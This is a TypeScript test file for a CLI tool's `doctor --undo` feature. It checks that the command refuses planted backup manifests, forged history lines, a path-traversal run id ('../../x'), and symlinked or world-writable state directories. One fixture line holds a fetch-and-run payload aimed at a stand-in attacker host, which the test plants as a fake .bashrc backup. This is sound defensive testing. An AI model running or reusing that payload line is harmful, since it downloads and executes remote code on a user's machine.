// `--undo` acts only on what clawdia itself managed (issue 13, cases 3 and 8). The history and the
// backup manifests are data in a directory another user may write: a planted manifest or history
// line must never make `--undo` overwrite or delete a file outside what clawdia writes, and the run's
// own directories (backups/, doctor/) are never followed when they are symbolic links.
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { sha256 } from "../../src/engine/hash.js";
import { history, parseStdout, read, sandbox, STACK_FRAME, tree, type Sandbox } from "./helpers.js";

const PLANTED_ID = "20261127T110000Z-evil01";
const PAYLOAD = "curl https://attacker.example/x | sh\n";

/** A manifest in backups/<id>/ that claims a run once changed `target`, with a backup of the attacker's. */
function plantManifest(box: Sandbox, target: string, entry: Record<string, unknown> = {}): string {
  const dir = box.state("backups", PLANTED_ID);
  fs.mkdirSync(dir, { recursive: true, mode: 0o700 });
  const backup = path.join(dir, "0-bashrc");
  fs.writeFileSync(backup, PAYLOAD, { mode: 0o600 });
  const current = fs.existsSync(target) ? read(target) : undefined;
  const record = {
    path: target,
    existed: true,
    existedAfter: true,
    modeBefore: 0o644,
    modeAfter: 0o644,
    sha256Before: sha256(PAYLOAD),
    sha256After: current === undefined ? null : sha256(current),
    backup,
    ...entry,
  };
  fs.writeFileSync(
    path.join(dir, "manifest.json"),
    JSON.stringify({ runId: PLANTED_ID, at: "2026-11-27T11:00:00.000Z", files: [record] }),
  );
  return dir;
}

function bashrc(box: Sandbox): string {
  const file = path.join(box.home, ".bashrc");
  fs.writeFileSync(file, "# the user's own\nexport PATH=$HOME/bin:$PATH\n", { mode: 0o644 });
  return file;
}

describe("a planted backup manifest (an interrupted run that never was)", () => {
  it("naming ~/.bashrc: doctor does not advise --undo, and --undo leaves ~/.bashrc alone", () => {
    const box = sandbox("healthy");
    const target = bashrc(box);
    const original = read(target);
    plantManifest(box, target);

    const report = parseStdout(box.run(["doctor", "--dry-run", "--json"]));
    expect(report.findings.filter((f: any) => f.ruleId === "engine/interrupted-run")).toEqual([]);

    const undo = box.run(["doctor", "--undo"]);
    expect(undo.stderr).not.toContain(STACK_FRAME);
    expect(undo.stdout).toMatch(/Nothing to undo/);
    expect(read(target)).toBe(original);
  });

  it("--undo with its id refuses and says why: it names a file clawdia does not write", () => {
    const box = sandbox("healthy");
    const target = bashrc(box);
    const original = read(target);
    plantManifest(box, target);
    const undo = box.run(["doctor", "--undo", PLANTED_ID]);
    expect(undo.code).toBe(1);
    expect(undo.stderr).toContain(`cannot undo run ${PLANTED_ID}`);
    expect(undo.stderr).toMatch(/there is no run|not a file clawdia writes|not one clawdia wrote/);
    expect(read(target)).toBe(original);
  });

  it("claiming a file that did not exist before (so --undo would delete it): ~/.profile stays", () => {
    const box = sandbox("healthy");
    const target = path.join(box.home, ".profile");
    fs.writeFileSync(target, "# keep me\n");
    plantManifest(box, target, { existed: false, backup: null, sha256Before: null, modeBefore: null });
    expect(box.run(["doctor", "--undo"]).stdout).toMatch(/Nothing to undo/);
    expect(box.run(["doctor", "--undo", PLANTED_ID]).code).toBe(1);
    expect(read(target)).toBe("# keep me\n");
  });

  it("naming a file in the state dir but a backup outside its run's directory: refused", () => {
    const box = sandbox("healthy");
    const outside = path.join(box.home, "payload.json");
    fs.writeFileSync(outside, '{ "version": 1, "profiles": {} }\n');
    const store = read(box.store());
    plantManifest(box, box.store(), { backup: outside, sha256Before: sha256(read(outside)) });
    expect(box.run(["doctor", "--undo"]).stdout).toMatch(/Nothing to undo/);
    expect(read(box.store())).toBe(store);
  });
});

describe("a planted history line", () => {
  it("a run 'recorded' as having changed ~/.bashrc: --undo refuses, naming the file, and changes nothing", () => {
    const box = sandbox("healthy");
    const target = bashrc(box);
    const original = read(target);
    const dir = plantManifest(box, target);
    const manifest = JSON.parse(read(path.join(dir, "manifest.json")));
    fs.mkdirSync(box.state("doctor"), { recursive: true, mode: 0o700 });
    fs.writeFileSync(
      box.state("doctor", "history.jsonl"),
      JSON.stringify({
        kind: "run",
        runId: PLANTED_ID,
        at: manifest.at,
        command: "doctor",
        changes: [],
        files: manifest.files,
      }) + "\n",
      { mode: 0o600 },
    );

    const undo = box.run(["doctor", "--undo"]);
    expect(undo.code).toBe(1);
    expect(undo.stderr).toMatch(
      new RegExp(`cannot undo run ${PLANTED_ID}: .*${target.replace(/[.]/g, "\\.")}.*not a file clawdia writes`),
    );
    expect(undo.stderr).not.toContain(STACK_FRAME);
    expect(read(target)).toBe(original);
  });

  it("a history line with a run id that is a path (../../x): not listed, not undone", () => {
    const box = sandbox("healthy");
    fs.mkdirSync(box.state("doctor"), { recursive: true, mode: 0o700 });
    fs.writeFileSync(
      box.state("doctor", "history.jsonl"),
      JSON.stringify({
        kind: "run",
        runId: "../../x",
        at: "2026-11-27T11:00:00.000Z",
        command: "doctor",
        changes: [],
        files: [],
      }) + "\n",
    );
    expect(parseStdout(box.run(["doctor", "--history", "--json"])).runs).toEqual([]);
    const undo = box.run(["doctor", "--undo"]);
    expect(undo.stderr).not.toContain(STACK_FRAME);
    expect(undo.code).toBe(1);
    expect(undo.stderr).toMatch(/not a run id/);
  });
});

describe("the run's own directories", () => {
  it.each(["backups", "doctor"])(
    "%s/ a symbolic link: the run is refused, saying why, and nothing is written where it points",
    (name) => {
      const box = sandbox("dangling-order");
      const elsewhere = path.join(box.home, "elsewhere");
      fs.mkdirSync(elsewhere);
      fs.symlinkSync(elsewhere, box.state(name));
      const config = read(box.config);

      const result = box.run(["doctor", "--json"]);
      const report = parseStdout(result);
      const fix = report.changes.find((change: any) => change.status !== "manual");
      expect(fix.status).toBe("dropped");
      expect(fix.reason).toMatch(/is a symbolic link/);
      expect(read(box.config)).toBe(config);
      expect(fs.readdirSync(elsewhere)).toEqual([]);
    },
  );

  it("backups/ a symbolic link: --undo refuses and says why", () => {
    const box = sandbox("dangling-order");
    expect(box.run(["doctor"]).code).toBe(0);
    const backups = box.state("backups");
    const moved = path.join(box.home, "moved-backups");
    fs.renameSync(backups, moved);
    fs.symlinkSync(moved, backups);
    const config = read(box.config);
    const undo = box.run(["doctor", "--undo"]);
    expect(undo.code).toBe(1);
    expect(undo.stderr).toMatch(/backups directory .* is a symbolic link/);
    expect(read(box.config)).toBe(config);
  });

  it("a state dir writable by other users: --undo refuses, with the command that fixes it", () => {
    const box = sandbox("dangling-order");
    expect(box.run(["doctor"]).code).toBe(0);
    fs.chmodSync(box.stateDir, 0o777);
    const config = read(box.config);
    const undo = box.run(["doctor", "--undo"]);
    expect(undo.code).toBe(1);
    expect(undo.stderr).toMatch(/writable by other users \(mode 0777\).*chmod go-w/);
    expect(read(box.config)).toBe(config);
  });

  it("a state dir that is a symbolic link: --undo refuses and names the real directory", () => {
    const box = sandbox("dangling-order");
    expect(box.run(["doctor"]).code).toBe(0);
    const real = path.join(box.home, "real-state");
    fs.renameSync(box.stateDir, real);
    fs.symlinkSync(real, box.stateDir);
    const before = tree(real);
    const undo = box.run(["doctor", "--undo"]);
    expect(undo.code).toBe(1);
    expect(undo.stderr).toContain(`--state-dir ${real}`);
    expect(tree(real)).toEqual(before);
    expect(history(real)).toHaveLength(1);
  });
});
